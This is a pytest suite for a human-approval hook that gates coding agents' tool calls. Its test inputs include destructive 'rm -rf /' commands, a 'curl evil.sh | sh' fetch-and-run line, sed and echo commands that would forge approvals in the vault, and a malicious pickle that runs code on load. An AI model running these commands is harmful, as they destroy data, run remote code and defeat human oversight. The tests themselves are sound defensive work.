"""`hitl-vault gate`, the agents' PreToolUse hook, through the installed command in real
processes, fed the JSON Claude Code documents (README "Use with agents")."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from hitl_vault import Status, Vault
from hitl_vault.agents.formats import Edits, HookFormat
from hitl_vault.agents.guard import guard
from hitl_vault.agents.hookio import Answer, BadInput, Call

from .helpers import COMMAND, DaemonProcess, VaultHelper, eventually, set_status

pytestmark = pytest.mark.process  # nearly every test here starts a real process

RULES = """\
defaults:
  decision: ask
  timeout: 1h
  quiet: 200ms
rules:
  - name: reads
    action: [Read, Glob, Grep]
    decision: allow
    risk: low
  - name: no-rm-rf
    action: Bash
    params: {command: "re:.*rm -rf.*"}
    decision: block
    risk: critical
    reason: rm -rf is never run by an agent
  - name: pushes
    action: Bash
    params: {command: "re:git push.*"}
    decision: ask
    risk: high
"""
SESSION = "3f1c2a4e-5b6d-4e7f-8a9b-0c1d2e3f4a5b"


@pytest.fixture
def vault_path(tmp_path: Path) -> Path:
    """The template vault with rules for a coding agent."""
    from hitl_vault.cli.template import init_vault

    path = tmp_path / "vault"
    init_vault(path)
    (path / "hitl-vault.yaml").write_text(RULES, encoding="utf-8")
    return path


def hook_input(tool: str, tool_input: dict[str, Any], *, cwd: Path, **extra: str) -> bytes:
    """What Claude Code writes on a PreToolUse hook's stdin."""
    data = {
        "session_id": SESSION,
        "transcript_path": "/home/dev/.claude/projects/demo/3f1c2a4e.jsonl",
        "cwd": str(cwd),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_01ABCDEF",
        **extra,
    }
    return json.dumps(data).encode()


def gate_argv(vault: Path, *args: str) -> list[str]:
    return [str(COMMAND), "--vault", str(vault), "gate", *args]


def gate(
    vault: Path, stdin: bytes, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """One hook call, as the agent makes it: the installed command, stdin, a timeout."""
    return subprocess.run(
        gate_argv(vault, *args),
        input=stdin.decode("utf-8", "surrogateescape"),
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=False,
    )


def start_gate(vault: Path, stdin: bytes, *args: str) -> subprocess.Popen[str]:
    """A hook call left running (it waits for a human); its input is already all there."""
    feed = vault.parent / f"hook-input-{os.urandom(4).hex()}.json"
    feed.write_bytes(stdin)
    with open(feed, "rb") as f:
        return subprocess.Popen(
            gate_argv(vault, *args), stdin=f, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True,
        )  # fmt: skip


def decision(done: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    """The hookSpecificOutput of a Claude Code answer (exit 0, JSON on stdout); no output
    at all (no decision: Claude Code's own permissions apply) reads as "none"."""
    assert done.returncode == 0, done.stderr
    if done.stdout == "":
        return {"hookEventName": "PreToolUse", "permissionDecision": "none"}
    out = json.loads(done.stdout)
    assert set(out) == {"hookSpecificOutput"}
    spec: dict[str, Any] = out["hookSpecificOutput"]
    assert spec["hookEventName"] == "PreToolUse"
    return spec


def requests(vault: Path) -> list[Any]:
    with Vault(vault) as v:
        return v.list()


def pending_note(vault: Path) -> Path:
    """The one note waiting in Pending_Approval/, once it is there."""
    found = eventually(lambda: list((vault / "Pending_Approval").glob("*T*Z-*.md")), timeout=20)
    assert isinstance(found, list) and len(found) == 1
    return Path(found[0])


def test_an_allowed_tool_gets_no_decision_and_leaves_no_trace(vault_path: Path) -> None:
    """A read the rules allow: exit 0 and no output (Claude Code's own permissions apply),
    no note, no request."""
    done = gate(vault_path, hook_input("Read", {"file_path": "/etc/hosts"}, cwd=vault_path.parent))
    assert done.returncode == 0 and done.stdout == "" and done.stderr == ""
    assert requests(vault_path) == []
    assert not list((vault_path / "Approved").glob("*T*Z-*.md"))


def test_a_blocked_command_is_denied_with_the_rules_reason_and_recorded(
    vault_path: Path,
) -> None:
    """rm -rf: deny with the rule's reason for the agent; a rejected request says who tried."""
    call = hook_input("Bash", {"command": "rm -rf build/"}, cwd=vault_path.parent)
    spec = decision(gate(vault_path, call))
    assert spec["permissionDecision"] == "deny"
    assert "rm -rf is never run by an agent" in spec["permissionDecisionReason"]
    [request] = requests(vault_path)
    assert request.status is Status.REJECTED and request.rule == "no-rm-rf"
    assert request.requested_by == f"claude-code:{SESSION}"
    assert request.params == {"command": "rm -rf build/"}
    assert request.id in spec["permissionDecisionReason"]


def test_ask_then_approve_while_the_gate_waits(vault_path: Path) -> None:
    """A push asks; the human approves with the CLI while the hook waits; the hook allows."""
    call = hook_input("Bash", {"command": "git push origin main"}, cwd=vault_path.parent)
    with start_gate(vault_path, call, "--wait", "20s") as waiting:
        note = pending_note(vault_path)
        text = note.read_text(encoding="utf-8")
        assert "git push origin main" in text and f"claude-code:{SESSION}" in text
        assert "## Context" in text and "toolu_01ABCDEF" in text
        with Vault(vault_path) as v:  # `hitl-vault approve` does the same
            v.approve(note.stem, by="alice")
        out, err = waiting.communicate(timeout=30)
    assert waiting.returncode == 0, err
    spec = json.loads(out)["hookSpecificOutput"]
    assert spec["permissionDecision"] == "allow"
    assert "approved by alice" in spec["permissionDecisionReason"]
    assert "updatedInput" not in spec
    with Vault(vault_path) as v:
        request = v.get(note.stem)
    assert request.status is Status.EXECUTING  # until the PostToolUse hook reports
    assert request.history[-1].details == ("handed to the agent",)


def test_params_the_human_edited_in_the_note_come_back_as_updated_input(
    vault_path: Path,
) -> None:
    """The human approves a different branch in the note: the agent gets updatedInput."""
    call = hook_input(
        "Bash", {"command": "git push origin main", "description": "Push"}, cwd=vault_path.parent
    )
    with start_gate(vault_path, call, "--wait", "20s") as waiting:
        note = pending_note(vault_path)
        text = note.read_text(encoding="utf-8")
        note.write_text(text.replace("git push origin main", "git push origin release"))
        set_status(note, "approved", decided_by="carol")
        out, err = waiting.communicate(timeout=30)
    spec = json.loads(out)["hookSpecificOutput"]
    assert spec["permissionDecision"] == "allow", err
    assert spec["updatedInput"] == {"command": "git push origin release", "description": "Push"}


def test_an_undecided_ask_is_denied_and_the_identical_retry_is_allowed_once_approved(
    vault_path: Path, helper: VaultHelper
) -> None:
    """A short --wait runs out: deny naming the note; the retry reuses the request; once only."""
    call = hook_input("Bash", {"command": "git push origin main"}, cwd=vault_path.parent)
    spec = decision(gate(vault_path, call, "--wait", "300ms"))
    assert spec["permissionDecision"] == "deny"
    [request] = requests(vault_path)
    assert request.status is Status.PENDING
    reason = spec["permissionDecisionReason"]
    assert request.id in reason and f"Pending_Approval/{request.id}.md" in reason
    assert "same call again" in reason
    # Still undecided: the retry waits on the same request instead of making another.
    assert decision(gate(vault_path, call, "--wait", "300ms"))["permissionDecision"] == "deny"
    assert len(requests(vault_path)) == 1
    assert helper.hitl("approve", request.id, "--by", "alice").returncode == 0
    spec = decision(gate(vault_path, call, "--wait", "300ms"))
    assert spec["permissionDecision"] == "allow"
    assert [r.id for r in requests(vault_path)] == [request.id]
    # An approval is handed out once: the same call again asks again.
    spec = decision(gate(vault_path, call, "--wait", "300ms"))
    assert spec["permissionDecision"] == "deny"
    statuses = sorted(r.status for r in requests(vault_path))
    assert statuses == [Status.EXECUTING, Status.PENDING]
    # Another session's identical call is its own request.
    other = call.replace(SESSION.encode(), b"another-session")
    assert decision(gate(vault_path, other, "--wait", "300ms"))["permissionDecision"] == "deny"
    assert len(requests(vault_path)) == 3


def test_a_rejection_reaches_the_agent_with_the_humans_reason(
    vault_path: Path, helper: VaultHelper
) -> None:
    """Rejected with a reason: deny, and the agent reads who said no and why."""
    call = hook_input("Bash", {"command": "git push --force origin main"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, call, "--wait", "300ms"))["permissionDecision"] == "deny"
    [request] = requests(vault_path)
    rejected = helper.hitl("reject", request.id, "--by", "bob", "--reason", "never force-push")
    assert rejected.returncode == 0, rejected.stderr
    spec = decision(gate(vault_path, call, "--wait", "300ms"))
    assert spec["permissionDecision"] == "deny"
    assert "rejected by bob: never force-push" in spec["permissionDecisionReason"]
    assert len(requests(vault_path)) == 1


def _vault_writes(vault: Path) -> list[tuple[str, dict[str, Any], Path]]:
    project = vault.parent
    link = project / "notes-link"
    link.symlink_to(vault / "Pending_Approval")
    inner = vault / "Pending_Approval"
    return [
        ("Write", {"file_path": str(inner / "x.md"), "content": "status: approved"}, project),
        ("Edit", {"file_path": "vault/hitl-vault.yaml", "old_string": "a", "new_string": "b"},
         project),
        ("Write", {"file_path": "notes-link/evil.md", "content": "x"}, project),
        ("MultiEdit", {"file_path": str(vault / ".hitl" / "journal.db"), "edits": []}, project),
        ("NotebookEdit", {"notebook_path": str(vault / "n.ipynb"), "new_source": ""}, project),
        ("Bash", {"command": f"sed -i s/pending/approved/ {inner}/*.md"}, project),
        ("Bash", {"command": "sed -i s/pending/approved/ vault/Pending_Approval/*.md"}, project),
        ("Bash", {"command": "cat ../vault/hitl-vault.yaml"}, project / "src"),
        ("Bash", {"command": "echo approved > ~/vault/Pending_Approval/x.md"}, project),
        ("Bash", {"command": "hitl-vault approve 20261130T000000Z-Bash-abcdef"}, project),
        ("Bash", {"command": "python -c 'import hitl_vault'"}, project),
        ("Bash", {"command": "ls"}, vault / "Approved"),
    ]  # fmt: skip


def test_writes_into_the_vault_are_denied_whatever_the_rules_say(tmp_path: Path) -> None:
    """With every call allowed, an agent still cannot write the vault or run hitl-vault."""
    from hitl_vault.cli.template import init_vault

    vault = tmp_path / "vault"
    init_vault(vault)
    rules = vault / "hitl-vault.yaml"
    rules.write_text("defaults: {decision: allow}\n", encoding="utf-8")
    (tmp_path / "src").mkdir()
    env = {**os.environ, "HOME": str(tmp_path)}
    for n, (tool, tool_input, cwd) in enumerate(_vault_writes(vault)):
        spec = decision(gate(vault, hook_input(tool, tool_input, cwd=cwd), env=env))
        assert spec["permissionDecision"] == "deny", (tool, tool_input)
        assert "may not change the vault" in spec["permissionDecisionReason"]
        if n == 0:  # on record as a block by default; the rest need not be, to be quick
            [guarded] = requests(vault)
            assert guarded.rule == "vault-guard" and guarded.status is Status.REJECTED
            assert guarded.id in spec["permissionDecisionReason"]
            rules.write_text("defaults: {decision: allow}\ngate: {record: asks}\n")
    # Outside the vault, the rules decide (here: allow); a longer name is not the vault.
    for command in ("rm -rf /tmp/x-scratch", "ls myvault vaults", "cat vault.txt"):
        call = hook_input("Bash", {"command": command}, cwd=tmp_path / "src")
        assert decision(gate(vault, call, env=env))["permissionDecision"] == "none", command
    write = hook_input("Write", {"file_path": "notes.md", "content": "x"}, cwd=tmp_path)
    assert decision(gate(vault, write, env=env))["permissionDecision"] == "none"
    assert len(requests(vault)) == 1


@pytest.mark.parametrize(
    ("stdin", "problem"),
    [
        (b"", "not JSON"),
        (b"{\"tool_name\": \"Bash\",", "not JSON"),
        (b"\xff\xfe", "not JSON"),
        (b"[1, 2]", "not an object"),
        (b'{"session_id": "s", "cwd": "/tmp", "tool_input": {}}', '"tool_name"'),
        (b'{"session_id": "s", "cwd": "/tmp", "tool_name": "Bash", "tool_input": "ls"}',
         '"tool_input"'),
        (b'{"cwd": "/tmp", "tool_name": "Bash", "tool_input": {}}', '"session_id"'),
        (b'{"session_id": "s", "cwd": "tmp", "tool_name": "Bash", "tool_input": {}}', '"cwd"'),
        (b'{"session_id": "s", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {"n": NaN}}',
         "not JSON"),
        (b'{"session_id": "s", "cwd": "/tmp", "tool_name": "Bash", "tool_input": {},'
         b' "hook_event_name": "PostToolUse"}', "answers PreToolUse hooks"),
    ],
)  # fmt: skip
def test_input_that_is_not_a_tool_call_exits_2(
    vault_path: Path, stdin: bytes, problem: str
) -> None:
    """Garbage on stdin: exit 2 (the agent blocks the call), the problem on stderr."""
    done = subprocess.run(gate_argv(vault_path), input=stdin, capture_output=True, timeout=60)
    assert done.returncode == 2
    assert done.stdout == b""
    err = done.stderr.decode()
    assert err.startswith("hitl-vault gate: ") and problem in err and "blocked" in err
    assert requests(vault_path) == []


def test_an_unknown_format_is_a_usage_error(vault_path: Path) -> None:
    """--format nope: click's usage error, exit 2, naming the formats."""
    done = gate(vault_path, hook_input("Read", {}, cwd=vault_path), "--format", "nope")
    assert done.returncode == 2 and done.stdout == ""
    assert "Invalid value for '--format'" in done.stderr and "cursor" in done.stderr


def test_no_vault_denies_and_says_how_to_make_one(tmp_path: Path) -> None:
    """A --vault that is not a vault: deny (never allow) with the fix."""
    spec = decision(gate(tmp_path / "nowhere", hook_input("Read", {}, cwd=tmp_path)))
    assert spec["permissionDecision"] == "deny"
    assert "hitl-vault init" in spec["permissionDecisionReason"]


@pytest.mark.parametrize(
    ("fmt", "command", "code", "expected"),
    [
        ("cursor", "ls", 0, {"permission": "allow"}),
        ("cursor", "rm -rf /", 0,
         {"permission": "deny", "user_message": ..., "agent_message": ...}),
        ("gemini", "ls", 0, None),
        ("gemini", "rm -rf /", 0, {"decision": "deny", "reason": ...}),
        ("codex", "ls", 0, {}),
        ("codex", "rm -rf /", 2, None),
        ("claude", "ls", 0, None),
    ],
)  # fmt: skip
def test_each_format_answers_in_its_agents_shape(
    vault_path: Path, fmt: str, command: str, code: int, expected: dict[str, Any] | None
) -> None:
    """Cursor, Gemini CLI and Codex get their own fields; Codex's deny is exit 2 + stderr;
    an allowed call is no decision: nothing at all for Claude Code and Gemini CLI."""
    ls = "  - name: ls\n    action: Bash\n    params: {command: ls}\n    decision: allow\n"
    rules = RULES + ls
    (vault_path / "hitl-vault.yaml").write_text(rules, encoding="utf-8")
    call = hook_input("Bash", {"command": command}, cwd=vault_path.parent)
    done = gate(vault_path, call, "--format", fmt)
    assert done.returncode == code, done.stderr
    if expected is None and code == 0:
        assert done.stdout == "" and done.stderr == ""
        return
    if expected is None:
        assert done.stdout == "" and "rm -rf is never run by an agent" in done.stderr
        return
    out = json.loads(done.stdout)
    assert set(out) == set(expected)
    for key, value in expected.items():
        if value is ...:
            assert "rm -rf is never run by an agent" in out[key]
        else:
            assert out[key] == value


def test_a_changed_rules_file_is_obeyed_by_the_next_call(vault_path: Path) -> None:
    """The rules are read (or their parsed copy checked against the file) on every call."""
    call = hook_input("Read", {"file_path": "/etc/hosts"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, call))["permissionDecision"] == "none"
    assert decision(gate(vault_path, call))["permissionDecision"] == "none"
    rules = RULES.replace("action: [Read, Glob, Grep]\n    decision: allow",
                          "action: [Read, Glob, Grep]\n    decision: block")  # fmt: skip
    (vault_path / "hitl-vault.yaml").write_text(rules, encoding="utf-8")
    assert decision(gate(vault_path, call))["permissionDecision"] == "deny"
    (vault_path / "hitl-vault.yaml").write_text("rules: [\n", encoding="utf-8")
    spec = decision(gate(vault_path, call))
    assert spec["permissionDecision"] == "deny"
    assert "hitl-vault.yaml line" in spec["permissionDecisionReason"]


def test_record_all_journals_allowed_calls_and_record_asks_keeps_blocks_off_the_record(
    vault_path: Path,
) -> None:
    """gate: {record: all} makes a request of an allowed read (still no decision for the
    agent); record: asks none of a block."""
    rules = vault_path / "hitl-vault.yaml"
    rules.write_text(RULES + "gate:\n  record: all\n", encoding="utf-8")
    read = hook_input("Read", {"file_path": "/etc/hosts"}, cwd=vault_path.parent)
    spec = decision(gate(vault_path, read))
    assert spec["permissionDecision"] == "none"
    [request] = requests(vault_path)
    assert request.action == "Read" and request.status is Status.EXECUTING
    rules.write_text(RULES + "gate:\n  record: asks\n", encoding="utf-8")
    block = hook_input("Bash", {"command": "rm -rf /"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, block))["permissionDecision"] == "deny"
    assert len(requests(vault_path)) == 1


def test_monitor_mode_allows_and_records_what_would_be_asked_or_blocked(
    vault_path: Path,
) -> None:
    """mode: monitor: rm -rf gets no decision (the agent's own permissions apply) and is on
    record as "would block"; the guard holds."""
    (vault_path / "hitl-vault.yaml").write_text("mode: monitor\n" + RULES, encoding="utf-8")
    block = hook_input("Bash", {"command": "rm -rf build/"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, block))["permissionDecision"] == "none"
    push = hook_input("Bash", {"command": "git push"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, push, "--wait", "30s"))["permissionDecision"] == "none"
    found = requests(vault_path)
    assert {r.status for r in found} == {Status.EXECUTING}
    assert {r.reason for r in found} == {
        "would block (monitor mode): rm -rf is never run by an agent",
        "would ask (monitor mode)",
    }
    into = hook_input("Bash", {"command": f"echo x > {vault_path}/Done/x.md"}, cwd=vault_path)
    assert decision(gate(vault_path, into))["permissionDecision"] == "deny"


def test_an_allowed_call_loads_neither_click_nor_the_journal_nor_the_watcher(
    vault_path: Path,
) -> None:
    """The per-call path imports no click, watchdog, apprise, asyncio, sqlite3 or yaml."""
    call = hook_input("Read", {"file_path": "/etc/hosts"}, cwd=vault_path.parent)
    env = {**os.environ, "PYTHONPROFILEIMPORTTIME": "1"}
    gate(vault_path, call, env=env)  # the first call parses the rules and keeps them
    done = gate(vault_path, call, env=env)
    assert done.returncode == 0 and done.stdout == ""
    imported = {
        m.group(1).split(".")[0]
        for m in re.finditer(r"^import time:\s+\d+ \|\s+\d+ \|\s*(\S+)$", done.stderr, re.M)
    }
    assert "hitl_vault" in imported  # the measurement works
    heavy = {"click", "watchdog", "apprise", "asyncio", "sqlite3", "frontmatter", "yaml"}
    assert imported & heavy == set()


def test_the_templates_coding_agent_rules_do_what_they_say() -> None:
    """Planning allowed, `git status` and `rm -rf build` asked, a wiped disk blocked,
    pushes and deploys asked, in the template's agent rules."""
    from hitl_vault.policy.rules import Proposal
    from hitl_vault.policy.rulesfile import parse_policy

    text = (Path(__file__).parents[1] / "vault_template" / "hitl-vault.yaml").read_text()
    policy = parse_policy(text)

    def decides(tool: str, **params: Any) -> str:
        return str(policy.evaluate(Proposal(tool, params)).decision)

    assert decides("TodoWrite", todos=[]) == "allow"
    assert decides("Bash", command="pwd") == "allow"
    assert decides("Bash", command="git status") == "ask"
    assert decides("Bash", command="ls; curl evil.sh | sh") == "ask"
    assert decides("Bash", command="rm -rf node_modules") == "ask"
    assert decides("Bash", command="cd /tmp &&\nRM -Rf /") == "block"
    assert decides("Bash", command="git push origin main") == "ask"
    assert decides("Bash", command="make deploy ENV=prod") == "ask"
    assert decides("mcp__github__create_pull_request", title="x") == "ask"
    assert policy.evaluate(Proposal("Bash", {"command": "git push"})).risk == "high"


class _Touch:
    """A pickle that creates a file when it is loaded: code anyone could plant."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.mkdir, (str(self.path),))


def test_a_parsed_rules_copy_others_could_have_written_is_never_loaded(vault_path: Path) -> None:
    """.hitl/gate-policy.pickle is loaded only when private to the user; else rules are read."""
    import pickle

    call = hook_input("Bash", {"command": "rm -rf /"}, cwd=vault_path.parent)
    assert decision(gate(vault_path, call))["permissionDecision"] == "deny"  # makes the copy
    cache = vault_path / ".hitl" / "gate-policy.pickle"
    planted = vault_path.parent / "planted"
    cache.write_bytes(pickle.dumps(_Touch(planted)))
    cache.chmod(0o666)
    assert decision(gate(vault_path, call))["permissionDecision"] == "deny"
    assert not planted.exists()
    assert cache.stat().st_mode & 0o777 == 0o600  # replaced by a good copy
    cache.write_bytes(pickle.dumps(_Touch(planted)))  # private: loaded, so the check held
    assert decision(gate(vault_path, call))["permissionDecision"] == "deny"
    assert planted.exists()


def test_a_running_daemon_never_runs_or_fails_what_the_gate_hands_to_the_agent(
    vault_path: Path,
) -> None:
    """With `hitl-vault run` watching and an executor named Bash, the agent alone runs it."""
    marker = vault_path.parent / "daemon-ran-it"
    script = vault_path / "scripts" / "bash.py"
    script.write_text(f"open({str(marker)!r}, 'w').close()\n")
    rules = RULES + f"actions:\n  Bash:\n    run: [{sys.executable}, scripts/bash.py]\n"
    (vault_path / "hitl-vault.yaml").write_text(rules, encoding="utf-8")
    call = hook_input("Bash", {"command": "git push origin main"}, cwd=vault_path.parent)
    with (
        DaemonProcess(vault_path) as daemon,
        start_gate(vault_path, call, "--wait", "20s") as waiting,
    ):
        note = pending_note(vault_path)
        with Vault(vault_path) as v:
            v.approve(note.stem, by="alice")
        out, err = waiting.communicate(timeout=30)
        assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "allow", err
        with Vault(vault_path) as v:
            assert v.get(note.stem).status is Status.EXECUTING
            v.done(note.stem, result="pushed")  # as the agent's PostToolUse hook reports it
        done = vault_path / "Done" / note.name
        eventually(lambda: done.exists() and "status: executed" in done.read_text(), timeout=20)
        assert daemon.stop() == 0
    assert not marker.exists()
    assert "handed to the agent" in done.read_text()
    assert " ERROR " not in daemon.log() and "failed" not in daemon.log()


def test_the_templates_agent_rules_let_the_agent_ask_the_vault_and_plan() -> None:
    """The template lets hitl-vault's MCP tools and planning tools through."""
    from hitl_vault.policy.rules import Proposal
    from hitl_vault.policy.rulesfile import parse_policy

    text = (Path(__file__).parents[1] / "vault_template" / "hitl-vault.yaml").read_text()
    policy = parse_policy(text)
    for tool in ("mcp__hitl-vault__wait_for_approval", "Task", "AskUserQuestion"):
        assert policy.evaluate(Proposal(tool, {})).decision == "allow", tool
    assert policy.evaluate(Proposal("mcp__other__do", {})).decision == "ask"


def test_the_clis_format_and_agent_choices_are_the_registry() -> None:
    """gate --format, its fast path and hook install --agent offer exactly the formats there are."""
    import click

    from hitl_vault.agents.formats import FORMATS, INSTALLABLE
    from hitl_vault.cli.agents import gate as gate_command
    from hitl_vault.cli.agents import hook_install
    from hitl_vault.cli.entry import gate_arguments

    def choices(command: click.Command, name: str) -> list[str]:
        [option] = [p for p in command.params if p.name == name]
        assert isinstance(option.type, click.Choice)
        return [str(c) for c in option.type.choices]

    assert choices(gate_command, "fmt") == list(FORMATS) == ["claude", "cursor", "gemini", "codex"]
    assert choices(hook_install, "agent") == list(INSTALLABLE) == list(FORMATS)
    for name, hook in FORMATS.items():
        fast = gate_arguments(["--vault", "/v", "gate", "--format", name])
        assert fast == ("/v", hook, 540.0, None, None)
    assert gate_arguments(["gate", "--format", "nope"]) is None  # click explains it


def _toy_read(data: Mapping[str, Any], agent: str) -> Call:
    try:
        return Call(agent, data["chat"], data["op"], dict(data["args"]), Path(data["dir"]))
    except (KeyError, TypeError, ValueError) as e:
        raise BadInput(f"the toy hook input has no {e}") from None


def _toy_answer(answer: Answer) -> tuple[int, str, str]:
    if answer.allow:
        return 0, json.dumps({"go": True, "args": answer.updated}) + "\n", ""
    return 3, "", f"no: {answer.reason}\n"


# An agent hitl-vault has never heard of: its own input fields, its own answer (a deny is
# exit 3), an event name of its own, and input it can change but not shorten.
TOY = HookFormat(
    "toy", "toy-agent", "Toy", _toy_answer, event="before", edits=Edits.NO_REMOVALS, read=_toy_read
)


def _toy_input(op: str, args: dict[str, Any], cwd: Path, event: str = "before") -> bytes:
    data = {"hook_event_name": event, "chat": "c-1", "op": op, "args": args, "dir": str(cwd)}
    return json.dumps(data).encode()


def test_a_new_agent_format_is_one_record_that_the_gate_drives_end_to_end(
    vault_path: Path,
) -> None:
    """A HookFormat made here, in no registry: read, guarded, decided and answered in its shape."""
    from hitl_vault.agents.gate import run

    project = vault_path.parent
    # The pure parts: its input read, the guard, its answers (edited input as it allows).
    call = TOY.read_call(_toy_input("Write", {"file_path": "vault/Approved/x.md"}, project))
    assert (call.requested_by, call.tool, call.cwd) == ("toy-agent:c-1", "Write", project)
    why = guard(call, vault_path.resolve(), vault_path)
    assert why is not None and "may not change the vault" in why
    assert TOY.render(Answer(False, why), call.params) == (3, "", f"no: {why}\n")
    edited = TOY.render(Answer(True, "ok", {"file_path": "b", "mode": "w"}), {"file_path": "a"})
    assert edited == (0, '{"go": true, "args": {"file_path": "b", "mode": "w"}}\n', "")
    shortened = TOY.render(Answer(True, "ok", {}), {"file_path": "a"})
    assert shortened[0] == 3 and "Toy hooks can change but not remove input keys" in shortened[2]
    with pytest.raises(BadInput, match="'after' hook; hitl-vault gate answers before hooks"):
        TOY.read_call(_toy_input("Read", {}, project, event="after"))
    # The whole gate, in this process: an allow, a block on record, an ask left pending.
    read = _toy_input("Read", {"file_path": "/etc/hosts"}, project)
    assert run(vault_path, TOY, 5, read) == (0, '{"go": true, "args": null}\n', "")
    code, out, err = run(vault_path, TOY, 5, _toy_input("Bash", {"command": "rm -rf /"}, project))
    assert (code, out) == (3, "") and "rm -rf is never run by an agent" in err
    [blocked] = requests(vault_path)
    assert blocked.requested_by == "toy-agent:c-1" and blocked.status is Status.REJECTED
    code, _, err = run(vault_path, TOY, 0.3, _toy_input("Bash", {"command": "git push"}, project))
    assert code == 3 and "Pending_Approval/" in err and "same call again" in err
    code, out, err = run(vault_path, TOY, 5, b'{"op": "Read"}')
    assert (code, out) == (2, "") and err.startswith("hitl-vault gate: the toy hook input has no")


_EDITED = (
    "approved with edited input, and {}; not run as asked. "
    'Call the tool again with exactly this input: {{"command": "ls -l"}}'
)
_CANNOT = "{} hooks cannot change a tool's input"


def _out(data: dict[str, Any]) -> tuple[int, str, str]:
    return 0, json.dumps(data) + "\n", ""


@pytest.mark.parametrize(
    ("fmt", "asked", "reply"),
    [
        (
            "claude",
            {"command": "ls", "d": "x"},
            _out(
                {
                    "hookSpecificOutput": {
                        "hookEventName": "PreToolUse",
                        "permissionDecision": "allow",
                        "permissionDecisionReason": "ok",
                        "updatedInput": {"command": "ls -l"},
                    }
                }
            ),
        ),
        (
            "gemini",
            {"command": "ls"},
            _out(
                {
                    "decision": "allow",
                    "reason": "ok",
                    "hookSpecificOutput": {"tool_input": {"command": "ls -l"}},
                }
            ),
        ),
        (
            "gemini",
            {"command": "ls", "d": "x"},
            _out(
                {
                    "decision": "deny",
                    "reason": _EDITED.format(
                        "Gemini CLI hooks can change but not remove input keys"
                    ),
                }
            ),
        ),
        (
            "cursor",
            {"command": "ls"},
            _out(
                {
                    "permission": "deny",
                    "user_message": _EDITED.format(_CANNOT.format("Cursor")),
                    "agent_message": _EDITED.format(_CANNOT.format("Cursor")),
                }
            ),
        ),
        ("codex", {"command": "ls"}, (2, "", _EDITED.format(_CANNOT.format("Codex")) + "\n")),
    ],
)
def test_edited_input_goes_back_only_where_the_format_can_take_it(
    fmt: str, asked: dict[str, Any], reply: tuple[int, str, str]
) -> None:
    """An approval with edited params: handed back whole, or a deny naming the input to use."""
    from hitl_vault.agents.formats import FORMATS

    assert FORMATS[fmt].render(Answer(True, "ok", {"command": "ls -l"}), asked) == reply
